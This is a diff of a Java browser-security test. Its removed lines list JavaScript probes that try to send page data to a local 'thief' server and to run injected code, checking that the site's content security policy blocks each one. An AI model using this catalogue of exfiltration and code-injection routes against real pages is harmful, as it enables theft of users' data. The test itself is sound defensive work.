@@ -3,9 +3,6 @@ package app.selfsame.browser;
 import static org.junit.Assert.assertEquals;
 import static org.junit.Assert.assertTrue;
 
-import app.selfsame.site.Site;
-import app.selfsame.site.SiteServer;
-import app.selfsame.worker.Chromium;
 import com.microsoft.playwright.Browser;
 import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.Page;
@@ -19,12 +16,13 @@ import java.nio.charset.StandardCharsets;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-import java.util.TreeMap;
+import java.util.Set;
 import java.util.concurrent.CopyOnWriteArrayList;
 import org.junit.After;
 import org.junit.AfterClass;
 import org.junit.Before;
 import org.junit.BeforeClass;
+import org.junit.ClassRule;
 import org.junit.Test;
 
 /**
@@ -38,83 +36,17 @@ import org.junit.Test;
  * names in advance, are not governed by a policy in every browser.
  */
 public class PageAttackTest {
-  /** Each is asked for {@code to}, an address, and settles; true when the browser let it through. */
-  private static final Map<String, String> WAYS =
-      Map.ofEntries(
-          Map.entry("fetch", "fetch(to).then(() => true)"),
-          Map.entry("fetch-no-cors", "fetch(to, {mode: 'no-cors', keepalive: true}).then(() => true)"),
-          Map.entry("fetch-post", "fetch(to, {method: 'POST', mode: 'no-cors', body: 'pixels'}).then(() => true)"),
-          Map.entry(
-              "xhr",
-              """
-              new Promise((resolve) => {
-                const request = new XMLHttpRequest();
-                request.onload = () => resolve(true);
-                request.onerror = () => resolve(false);
-                request.open('POST', to);
-                request.send('pixels');
-              })"""),
-          Map.entry("web-socket", "opened(new WebSocket(to.replace('http', 'ws')), 'open')"),
-          Map.entry("event-source", "opened(new EventSource(to), 'open')"),
-          Map.entry("image", "opened(Object.assign(new Image(), {src: to}), 'load')"),
-          Map.entry("style", "added('link', {rel: 'stylesheet', href: to})"),
-          Map.entry("font", "new FontFace('pixels', `url(${to})`).load().then(() => true)"),
-          Map.entry("video", "opened(Object.assign(document.createElement('video'), {src: to}), 'loadeddata')"),
-          Map.entry("object", "added('object', {data: to})"),
-          Map.entry("import", "import(to).then(() => true)"),
-          Map.entry("script-element", "added('script', {src: to})"),
-          Map.entry("worker", "opened(new Worker(to), 'message')"),
-          Map.entry("shared-worker", "opened(new SharedWorker(to), 'connect')"),
-          Map.entry("service-worker", "navigator.serviceWorker.register(to).then(() => true)"));
-
-  /** Each tries to run code that did not come with the site, and settles; true when it ran. */
-  private static final Map<String, String> FOREIGN_CODE =
-      Map.of(
-          "eval", "eval('true')",
-          "function", "new Function('return true')()",
-          "timer", "new Promise((resolve) => { window.ran = resolve; setTimeout('ran(true)'); setTimeout(() => resolve(false)); })",
-          "inline-script", "(added('script', {textContent: 'window.inline = true'}), window.inline === true)",
-          "inline-handler", "(document.body.setAttribute('onclick', 'window.clicked = true'), document.body.click(), window.clicked === true)",
-          "markup", "(document.createElement('p').innerHTML = '<b>pixels</b>', true)",
-          "blob-worker", "opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message')",
-          "data-worker", "opened(new Worker('data:text/javascript,postMessage(1)'), 'message')",
-          "second-policy", "!!trustedTypes.createPolicy('another', {createScript: (text) => text})");
-
-  private static final String SETTLE =
-      """
-      async (to) => {
-        const opened = (target, event) => new Promise((resolve) => {
-          target.addEventListener(event, () => resolve(true));
-          target.addEventListener('error', () => resolve(false));
-        });
-        const added = (tag, properties) => {
-          const element = Object.assign(document.createElement(tag), properties);
-          const done = opened(element, 'load');
-          document.body.append(element);
-          return done;
-        };
-        // Code that a debugger calls may evaluate text; what runs in a later task is the page's own.
-        await new Promise((resolve) => setTimeout(resolve));
-        try {
-          return await (%s);
-        } catch (refusal) {
-          return false;
-        }
-      }
-      """;
+  @ClassRule public static final ServedSite SITE = new ServedSite();
 
   private static final List<String> THEFTS = new CopyOnWriteArrayList<>();
 
-  private static SiteServer server;
   private static HttpServer thief;
-  private static Chromium chromium;
 
   private WireTap wire;
   private StudioVisit visit;
 
   @BeforeClass
   public static void start() throws IOException {
-    server = SiteServer.start(Site.packaged(), 0);
     thief = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
     thief.createContext(
         "/",
@@ -124,21 +56,18 @@ public class PageAttackTest {
           exchange.close();
         });
     thief.start();
-    chromium = new Chromium();
   }
 
   @AfterClass
   public static void stop() {
-    chromium.close();
     thief.stop(0);
-    server.close();
   }
 
   @Before
   public void visit() throws IOException {
     THEFTS.clear();
-    wire = new WireTap(server.port());
-    visit = StudioVisit.begin(chromium.browser(), wire.origin());
+    wire = new WireTap(SITE.port());
+    visit = StudioVisit.begin(SITE.browser(), wire.origin());
   }
 
   @After
@@ -150,7 +79,7 @@ public class PageAttackTest {
   @Test
   public void nothingReachesAnotherSite() {
     String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort();
-    assertEquals(refusedAll(WAYS), attempt(visit.page(), WAYS, elsewhere + "/stolen?pixels="));
+    assertEquals(Set.of(), PageAttacks.outOf(visit.page(), elsewhere + "/stolen?pixels="));
     submitForm(elsewhere + "/stolen");
     openFrame(elsewhere + "/stolen?frame=pixels");
     visit.page().evaluate("(to) => navigator.sendBeacon(to, 'pixels')", elsewhere + "/stolen?beacon");
@@ -162,7 +91,7 @@ public class PageAttackTest {
   public void thePageReachesNoAddressOfItsSiteButItsFiles() {
     for (String path : List.of("/", "/health", "/api/photos")) {
       List<String> before = wire.requestLines();
-      assertEquals(path, refusedAll(WAYS), attempt(visit.page(), WAYS, wire.origin() + path));
+      assertEquals(path, Set.of(), PageAttacks.outOf(visit.page(), wire.origin() + path));
       submitForm(wire.origin() + path);
       openFrame(wire.origin() + path);
       visit.page().evaluate("(to) => navigator.sendBeacon(to, 'pixels')", wire.origin() + path);
@@ -194,7 +123,7 @@ public class PageAttackTest {
 
   @Test
   public void noForeignCodeRuns() {
-    assertEquals(refusedAll(FOREIGN_CODE), attempt(visit.page(), FOREIGN_CODE, ""));
+    assertEquals(Set.of(), PageAttacks.foreignCodeOn(visit.page()));
   }
 
   /** The one way out that a page keeps; the person sees the page disappear. */
@@ -210,32 +139,16 @@ public class PageAttackTest {
   @Test
   public void theSameAttacksReachAnotherSiteWithoutThePolicy() {
     String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort();
-    try (BrowserContext free = chromium.browser().newContext(new Browser.NewContextOptions().setBypassCSP(true))) {
+    try (BrowserContext free = SITE.browser().newContext(new Browser.NewContextOptions().setBypassCSP(true))) {
       Page page = free.newPage();
       page.navigate(wire.origin() + "/");
-      attempt(page, WAYS, elsewhere + "/stolen?pixels=");
+      PageAttacks.outOf(page, elsewhere + "/stolen?pixels=");
     }
     for (String way :
         List.of("fetch", "fetch-no-cors", "fetch-post", "xhr", "web-socket", "event-source", "image", "style", "font",
             "video", "object", "import", "script-element")) {
       assertTrue(way + ": " + THEFTS, THEFTS.stream().anyMatch(theft -> theft.endsWith("?pixels=" + way)));
     }
-  }
-
-  private static Map<String, Object> attempt(Page page, Map<String, String> ways, String address) {
-    Map<String, Object> results = new TreeMap<>();
-    ways.forEach(
-        (name, way) -> {
-          String to = address.endsWith("=") ? address + name : address;
-          results.put(name, page.evaluate(SETTLE.formatted(way), to));
-        });
-    return results;
-  }
-
-  private static Map<String, Object> refusedAll(Map<String, String> ways) {
-    Map<String, Object> refused = new TreeMap<>();
-    ways.keySet().forEach(name -> refused.put(name, false));
-    return refused;
   }
 
   private void submitForm(String to) {
